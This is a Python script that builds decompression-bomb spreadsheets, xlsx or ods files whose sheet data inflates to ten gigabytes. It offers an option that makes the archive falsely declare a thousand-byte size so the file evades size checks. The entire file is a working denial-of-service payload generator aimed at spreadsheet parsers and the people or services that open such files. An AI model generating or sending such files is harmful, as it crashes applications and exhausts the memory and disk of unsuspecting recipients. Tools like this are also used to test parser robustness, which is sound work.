#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""make-bomb.py KIND OUT: a spreadsheet, xlsx or ods, whose cells unpack to ten gigabytes.

KIND is xlsx or ods; with "-zeros" the cells are bytes of zero, with "-spaces" white space that a parser would
have to read, with "-said" the archive says how much it is, else it says a thousand bytes."""

import struct
import sys
import zlib

BLOCK = 1 << 20
BOMB = 10 << 30

RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
XLSX = [
    ("[Content_Types].xml", b"<Types/>"),
    ("_rels/.rels", RELATIONS % (b'<Relationship Id="r" Type="%sofficeDocument" Target="xl/workbook.xml"/>' % TYPE)),
    ("xl/_rels/workbook.xml.rels", RELATIONS % (b'<Relationship Id="r1" Type="%sworksheet" Target="sheet.xml"/>' % TYPE)),
    ("xl/workbook.xml", b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s">'
     b'<sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>' % TYPE[:-1]),
]
ODS = [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")]
HEAD = {
    "xlsx": b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
    "ods": b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
           b"<office:body>",
}


def pack(head, filling):
    """Compressed: the head, then ten gigabytes of the filling. A block after a full flush means the same
    wherever it stands."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    first += packer.compress(filling * BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(filling * BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + block * (BOMB // BLOCK - 1) + packer.flush()


def archive(members):
    """members: name, method, crc, stored bytes, size as it is said."""
    body, directory = b"", b""
    for name, method, crc, stored, size in members:
        extra = struct.pack("<HHQQ", 1, 16, size, len(stored)) if size >= 1 << 32 else b""
        said = (0xFFFFFFFF, 0xFFFFFFFF) if extra else (len(stored), size)
        fixed = struct.pack("<HHHHHLLLHH", 45, 0, method, 0, 0x21, crc, *said, len(name), len(extra))
        directory += b"PK\x01\x02" + struct.pack("<H", 45) + fixed + struct.pack("<HHHLL", 0, 0, 0, 0, len(body))
        directory += name.encode() + extra
        body += b"PK\x03\x04" + fixed + name.encode() + extra + stored
    end = struct.pack("<HHHHLLH", 0, 0, len(members), len(members), len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


def main():
    kind, path = sys.argv[1:]
    words = kind.split("-")
    cells = pack(HEAD[words[0]], b" " if "spaces" in words else b"\0")
    parts = XLSX if words[0] == "xlsx" else ODS
    members = [(name, 0, zlib.crc32(text), text, len(text)) for name, text in parts]
    name = "xl/sheet.xml" if words[0] == "xlsx" else "content.xml"
    members.append((name, 8, 0, cells, BOMB if "said" in words else 1000))
    with open(path, "wb") as file:
        file.write(archive(members))


main()
